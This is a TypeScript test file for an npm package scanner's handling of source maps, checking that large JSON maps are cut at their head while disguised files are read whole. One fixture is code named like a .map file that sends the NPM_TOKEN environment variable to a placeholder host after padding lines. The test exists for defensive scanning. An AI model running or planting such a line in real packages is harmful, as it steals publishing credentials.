/**
 * Source maps in a scan keep their head (sources/archive/source-map-head.ts): only a `.map` file
 * that opens a JSON object (which can never run as a script), only past its head, and only when the
 * reader asks for it. Read whole or streamed, the cut is the same; other files are untouched.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { readArchive, readTgzStream } from '../../src/sources/archive/index.js';
import { isSourceMapPath, opensJsonObject } from '../../src/sources/archive/source-map-head.js';
import { contentFacts } from '../../src/analyzers/content/facts.js';
import { makeTgz } from './helpers.js';

const HEAD = 1024;
/** A source map of about `bytes` bytes, as bundlers write them. */
const sourceMap = (bytes: number): string =>
  JSON.stringify({ version: 3, file: 'index.js', sources: ['../src/index.ts'], mappings: 'AAAA;'.repeat(Math.ceil(bytes / 5)) });
/** Code named like a source map: a module may `require('./x.map')`, and Node runs it as a script. */
const codeNamedMap = `var h = require("https");\n${'// padding\n'.repeat(400)}h.get("https://exfil.invalid/" + process.env.NPM_TOKEN);\n`;

const entries = [
  { name: 'package/package.json', body: '{"name":"p","version":"1.0.0"}' },
  { name: 'package/dist/index.js', body: 'module.exports = 1;\n//# sourceMappingURL=index.js.map\n' },
  { name: 'package/dist/index.js.map', body: sourceMap(20_000) },
  { name: 'package/dist/small.js.map', body: sourceMap(200) },
  { name: 'package/dist/loader.map', body: codeNamedMap },
  { name: 'package/dist/bom.css.map', body: '\uFEFF' + sourceMap(20_000) },
];

const limits = { headBytes: HEAD, sourceMapHeads: true };

describe('source maps keep their head in a scan', () => {
  test('a large JSON source map keeps its head only; small maps, code named .map and scripts are read whole', async () => {
    const r = await readArchive(await makeTgz(entries), { strip: 'npm', limits });
    const by = new Map(r.files.map((f) => [f.path, f]));
    const map = by.get('dist/index.js.map')!;
    assert.equal(map.sourceMapHead, true);
    assert.equal(map.data, undefined);
    assert.equal(map.head?.length, HEAD);
    assert.equal(map.head?.toString(), sourceMap(20_000).slice(0, HEAD));
    assert.equal(map.size, Buffer.byteLength(sourceMap(20_000)), 'the size is still the whole file');
    assert.equal(by.get('dist/bom.css.map')?.sourceMapHead, true, 'a byte order mark before the object');
    assert.equal(by.get('dist/small.js.map')?.data?.toString(), sourceMap(200));
    assert.equal(by.get('dist/loader.map')?.data?.toString(), codeNamedMap, 'code named .map stays whole');
    assert.equal(by.get('dist/loader.map')?.sourceMapHead, undefined);
    assert.ok(by.get('dist/index.js')?.data);
    assert.equal(
      r.totalSize,
      r.files.reduce((n, f) => n + f.size, 0),
    );
    assert.deepEqual(r.skipped, [], 'a source map cut at its head is not reported as truncated');
  });

  test('streamed in small pieces, the cut is the same', async () => {
    const tgz = await makeTgz(entries);
    const pieces = Array.from({ length: Math.ceil(tgz.length / 97) }, (_, i) => tgz.subarray(i * 97, (i + 1) * 97));
    const r = await readTgzStream(Readable.from(pieces), { strip: 'npm', limits });
    const map = r.files.find((f) => f.path === 'dist/index.js.map')!;
    assert.deepEqual([map.sourceMapHead, map.head?.toString()], [true, sourceMap(20_000).slice(0, HEAD)]);
    assert.equal(r.files.find((f) => f.path === 'dist/loader.map')?.data?.toString(), codeNamedMap);
  });

  test('without the option every source map is read whole', async () => {
    const r = await readArchive(await makeTgz(entries), { strip: 'npm', limits: { headBytes: HEAD } });
    const map = r.files.find((f) => f.path === 'dist/index.js.map')!;
    assert.equal(map.data?.toString(), sourceMap(20_000));
    assert.equal(map.sourceMapHead, undefined);
  });

  test('content facts list a cut source map as text, not as a file over the cap', async () => {
    const r = await readArchive(await makeTgz(entries), { strip: 'npm', limits });
    const facts = contentFacts(r);
    assert.deepEqual(facts.notAnalyzed, []);
    assert.equal(facts.fileCount, r.files.length);
  });
});

describe('what counts as a source map cut at its head', () => {
  test('paths', () => {
    assert.deepEqual(['a/index.js.map', 'x.css.map', 'y.map', 'map', 'a/map.js', 'z.mapx'].map(isSourceMapPath), [
      true,
      true,
      true,
      false,
      false,
      false,
    ]);
  });
  test('a JSON object with a key (never runnable as a script) is; anything else is not', () => {
    const yes = ['{"version":3', '  {\n  "version" : 3', '\uFEFF{"file":"a.js"', '{"a\\"b":1'];
    const no = ['', '{', '{}', '[1,2]', 'var x = {"a": 1}', '{/*c*/"version":3', '"version":3', '{version:3}', '{"unterminated'];
    for (const s of yes) assert.equal(opensJsonObject([Buffer.from(s)]), true, s);
    for (const s of no) assert.equal(opensJsonObject([Buffer.from(s)]), false, s);
    // The opening split over pieces as a stream delivers them.
    assert.equal(opensJsonObject([Buffer.from(' {'), Buffer.from('"vers'), Buffer.from('ion":3')]), true);
    assert.equal(opensJsonObject([Buffer.from('{"' + 'k'.repeat(2000) + '":1')]), false, 'an opening longer than 1 KiB is read whole');
  });
});
